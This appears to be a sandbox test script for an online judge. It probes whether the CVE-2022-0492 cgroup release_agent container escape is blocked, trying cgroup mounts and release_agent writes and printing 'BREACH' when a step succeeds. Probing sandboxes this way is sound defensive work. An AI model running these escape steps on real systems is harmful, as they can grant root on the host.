# attack: a release agent, which the kernel runs as root on the host
# expect: AC
# exploit: CVE-2022-0492, cgroup release_agent
mkdir -p /tmp/cg
for t in memory rdma pids cpu; do
    mount -t cgroup -o $t x /tmp/cg 2>/dev/null && echo "BREACH mounted $t"
    unshare -UrmC mount -t cgroup -o $t x /tmp/cg 2>/dev/null && echo "BREACH mounted $t in a namespace"
done
for f in /run/judgecore-memory /run/judgecore-cpu /sys/fs/cgroup /sys/fs/cgroup/*; do
    { echo 1 >$f/notify_on_release; } 2>/dev/null && echo "BREACH notify_on_release"
    { echo /tmp/x >$f/release_agent; } 2>/dev/null && echo "BREACH release_agent"
done
echo held
